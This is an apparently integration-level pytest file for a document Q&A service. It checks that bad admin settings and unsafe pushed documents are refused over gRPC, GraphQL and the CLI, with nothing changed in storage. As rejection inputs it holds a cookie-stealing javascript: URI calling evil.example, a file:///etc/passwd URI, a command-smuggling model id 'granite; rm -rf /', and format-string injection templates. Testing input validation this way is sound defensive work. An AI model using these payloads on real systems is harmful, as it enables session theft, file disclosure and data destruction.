"""A bad admin-set value is refused at every entry, with the interface's own error, and nothing changes.

gRPC (AdminService.SetStoreSettings, IndexingService.UpsertDocument and
BulkUpsert) and GraphQL (updateStoreSettings) against real servers on
127.0.0.1 over one world; the CLI (``docqa settings set``, ``--config``) run
in-process on that world's data directory.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import grpc
import httpx
import pytest

from service.api.cli.main import main
from service.api.grpc.server import GrpcServer
from service.api.grpc.stubs import Stubs, load
from service.api.http import HttpServer
from service.bootstrap import App
from tests.integration.server_world import STORE, SlowGenerator, bearer, build_world, on_servers, token

#: Each (setting, bad value, what the refusal says).
BAD_SETTINGS = [
    ("prompt_template", "{context.__class__} {question}", "may not contain {context.__class__}"),
    ("prompt_template", "{context} {question[0]}", "may not contain {question[0]}"),
    ("prompt_template", "{context} {question} {}", "may not contain {}"),
    ("prompt_template", "{question} only", "must contain {context} exactly once"),
    ("prompt_template", "{context} {question}" + "." * 8_000, "longer than 8000 characters"),
    ("llm_model_id", "ibm/granite\n-3-8b", "control characters"),
    ("llm_model_id", "x" * 201, "longer than 200 characters"),
]
IDS = ["attribute", "index", "positional", "no-context", "too-long", "model-newline", "model-long"]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[App, GrpcServer, HttpServer, Path]]:
    data_dir = tmp_path_factory.mktemp("admin-values")
    app = build_world(data_dir, generator=SlowGenerator())
    with on_servers(app) as served:
        assert served.grpc is not None
        yield app, served.grpc, served.http, data_dir
    app.close()


@pytest.fixture(scope="module")
def stubs() -> Stubs:
    return load()


@pytest.fixture
def channel(world: Any) -> Iterator[grpc.Channel]:
    with grpc.insecure_channel(f"127.0.0.1:{world[1].port}") as open_channel:
        yield open_channel


@pytest.mark.parametrize(("key", "value", "says"), BAD_SETTINGS, ids=IDS)
def test_grpc_set_store_settings_refuses_and_changes_nothing(
    world: Any, stubs: Stubs, channel: grpc.Channel, key: str, value: str, says: str
) -> None:
    app = world[0]
    before = app.repository.get_store(STORE)
    admin = stubs.admin_grpc.AdminServiceStub(channel)
    request = stubs.admin.SetStoreSettingsRequest(store_id=STORE, level=0.9, **{key: value})
    with pytest.raises(grpc.RpcError) as info:
        admin.SetStoreSettings(request, metadata=bearer(app, "root", admin=True), timeout=10)
    assert info.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert says in info.value.details()
    assert app.repository.get_store(STORE) == before  # not even the valid level


@pytest.mark.parametrize(("key", "value", "says"), BAD_SETTINGS, ids=IDS)
def test_graphql_update_store_settings_refuses_and_changes_nothing(world: Any, key: str, value: str, says: str) -> None:
    app, _, http, _ = world
    before = app.repository.get_store(STORE)
    field = "promptTemplate" if key == "prompt_template" else "llmModelId"
    reply = httpx.post(
        f"http://127.0.0.1:{http.port}/graphql",
        json={
            "query": 'mutation($s: StoreSettingsInput!) { updateStoreSettings(storeId: "acme", settings: $s) { id } }',
            "variables": {"s": {"level": 0.9, field: value}},
        },
        headers={"authorization": f"Bearer {token(app, 'root', admin=True)}"},
        timeout=10,
    )
    assert reply.status_code == 200
    [error] = reply.json()["errors"]
    assert error["extensions"]["code"] == "BAD_USER_INPUT" and says in error["message"]
    assert app.repository.get_store(STORE) == before


def test_a_good_template_is_stored_and_used(world: Any, stubs: Stubs, channel: grpc.Channel) -> None:
    app = world[0]
    admin = stubs.admin_grpc.AdminServiceStub(channel)
    template = "Quote the sources {{like [1]}}.\n{context}\nQ: {question}"
    request = stubs.admin.SetStoreSettingsRequest(store_id=STORE, prompt_template=template, llm_model_id="ibm/x-1")
    try:
        reply = admin.SetStoreSettings(request, metadata=bearer(app, "root", admin=True), timeout=10)
        assert reply.prompt_template == template and reply.llm_model_id == "ibm/x-1"
    finally:
        app.admin_without_index().update_settings(
            STORE, prompt_template=app.repository.get_store(STORE).prompt_template
        )


@pytest.mark.parametrize(
    "uri", ["javascript:fetch('//evil.example/?'+document.cookie)", "data:text/html,<script>", "file:///etc/passwd"]
)
def test_a_pushed_document_with_an_unsafe_source_uri_is_refused(
    world: Any, stubs: Stubs, channel: grpc.Channel, uri: str
) -> None:
    app = world[0]
    indexing = stubs.indexing_grpc.IndexingServiceStub(channel)
    acl = stubs.common.Acl(allow=["group:everyone"])
    document = stubs.indexing.UpsertDocumentRequest(
        store_id=STORE, document_id="pushed-link", text="Parking costs 40 euros.", source_uri=uri, acl=acl
    )
    admin = bearer(app, "cms-plugin", admin=True)
    with pytest.raises(grpc.RpcError) as info:
        indexing.UpsertDocument(document, metadata=admin, timeout=10)
    assert info.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert "source_uri must be an https:// or http:// URL" in info.value.details()
    good = stubs.indexing.UpsertDocumentRequest(
        store_id=STORE,
        document_id="pushed-ok",
        text="Lockers cost 5 euros.",
        source_uri="https://cms.example/7",
        acl=acl,
    )
    bulk = indexing.BulkUpsert(iter([document, good]), metadata=admin, timeout=10).results
    assert len(bulk) == 2 and (bulk[0].document_id, bulk[0].ok, bulk[0].outcome) == (
        "pushed-link",
        False,
        "INVALID_ARGUMENT",
    )
    assert (bulk[1].document_id, bulk[1].ok) == ("pushed-ok", True)  # the rest of the batch goes on
    assert app.repository.get_document(STORE, "pushed-link") is None  # nothing written for it
    assert app.repository.get_document(STORE, "pushed-ok").source_uri == "https://cms.example/7"


def test_cli_settings_set_refuses_and_changes_nothing(
    world: Any, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    app, _, _, data_dir = world
    monkeypatch.setenv("DOCQA_DATA_DIR", str(data_dir))
    monkeypatch.delenv("DOCQA_CONFIG", raising=False)
    before = app.repository.get_store(STORE)
    code = main(["settings", "set", STORE, "--level", "0.9", "--prompt-template", "{context} {question.__doc__}"])
    out, err = capsys.readouterr()
    assert code == 2 and out == ""
    assert err.startswith("error: prompt_template may not contain {question.__doc__}") and "Traceback" not in err
    code = main(["settings", "set", STORE, "--llm-model-id", "granite; rm -rf /"])
    assert code == 2 and "llm_model_id may hold only" in capsys.readouterr().err
    assert app.repository.get_store(STORE) == before


def test_a_configured_model_id_with_junk_stops_start_up(
    world: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "docqa.yaml"
    config.write_text('generator:\n  watsonx:\n    model_id: "ibm/granite\\u0007"\n')
    monkeypatch.setenv("DOCQA_DATA_DIR", str(world[3]))
    code = main(["--config", str(config), "stores"])
    err = capsys.readouterr().err
    assert code == 8
    assert "generator.watsonx.model_id" in err and "control characters" in err and "Traceback" not in err


@pytest.mark.parametrize("title", ["Parking\u202e fees", "two\nlines", "bell\x07", "x" * 501])
def test_a_pushed_document_with_a_junk_title_is_refused(
    world: Any, stubs: Stubs, channel: grpc.Channel, title: str
) -> None:
    app = world[0]
    indexing = stubs.indexing_grpc.IndexingServiceStub(channel)
    document = stubs.indexing.UpsertDocumentRequest(
        store_id=STORE,
        document_id="pushed-title",
        text="Parking costs 40 euros.",
        title=title,
        acl=stubs.common.Acl(allow=["group:everyone"]),
    )
    with pytest.raises(grpc.RpcError) as info:
        indexing.UpsertDocument(document, metadata=bearer(app, "cms-plugin", admin=True), timeout=10)
    assert info.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert "title" in info.value.details()
    assert app.repository.get_document(STORE, "pushed-title") is None  # nothing written
